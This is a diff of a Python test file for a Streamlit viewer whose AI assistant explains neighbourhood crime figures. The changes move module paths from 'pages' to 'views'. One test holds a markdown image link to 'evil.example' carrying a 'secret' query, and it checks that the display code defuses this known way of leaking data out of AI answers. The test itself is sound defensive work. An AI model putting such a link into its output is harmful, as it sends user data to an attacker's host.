@@ -37,7 +37,7 @@ def _page(env, lang: str = "nl") -> AppTest:
     get_settings.cache_clear()
     at = AppTest.from_file(APP, default_timeout=180)
     at.run()
-    at.switch_page("pages/assistant.py").run()
+    at.switch_page("views/assistant.py").run()
     _ok(at)
     return at
 
@@ -103,7 +103,7 @@ def test_an_explain_request_is_answered_on_arrival_once(env):
     at = AppTest.from_file(APP, default_timeout=180)
     at.run()
     at.session_state["explain_request"] = ExplainRequest("area", area=CENTRUM)
-    at.switch_page("pages/assistant.py").run()
+    at.switch_page("views/assistant.py").run()
     _ok(at)
     history = at.session_state["assistant.history"]
     assert len(history) == 1 and history[0].area == CENTRUM
@@ -117,7 +117,7 @@ def test_an_explain_request_is_answered_on_arrival_once(env):
 def test_explain_buttons_on_the_dashboard_and_the_map_panel(env, small):
     at = AppTest.from_file(APP, default_timeout=180)
     at.run()
-    at.switch_page("pages/dashboard.py").run()
+    at.switch_page("views/dashboard.py").run()
     at.selectbox(key="dash.area").set_value(CENTRUM).run()
     at.button(key="explain.dash").click().run()
     _ok(at)
@@ -245,7 +245,7 @@ def _answer(text: str, checks: tuple[NumberCheck, ...] = ()) -> Answer:
 
 
 def test_display_text_marks_each_unverified_number_in_place():
-    from viewer.pages.assistant import display_text
+    from viewer.views.assistant import display_text
 
     text = "Inbraak: 4,6 per 1000, daling 12,7 % en 3 buurten."
     checks = (
@@ -261,14 +261,14 @@ def test_display_text_marks_each_unverified_number_in_place():
 
 
 def test_display_text_never_loads_an_image():
-    from viewer.pages.assistant import display_text
+    from viewer.views.assistant import display_text
 
     shown = display_text(_answer("Zie ![x](http://evil.example/?q=secret) hier."))
     assert "![" not in shown and "!\\[x]" in shown
 
 
 def test_explain_requests_become_questions(small):
-    from viewer.pages.assistant import turn_from_request
+    from viewer.views.assistant import turn_from_request
 
     street = small.streets[small.streets["name"].notna()].iloc[0]
     turn = turn_from_request(small, ExplainRequest("street", street_id=street["id"]), "en")
@@ -284,7 +284,7 @@ def test_explain_requests_become_questions(small):
 
 def test_an_assessment_request_asks_about_its_street(small):
     from twin.assessments import Author, make_assessment, open_store, target_from_street
-    from viewer.pages.assistant import turn_from_request
+    from viewer.views.assistant import turn_from_request
 
     street = small.streets[small.streets["name"].notna()].iloc[0]
     with open_store() as store:
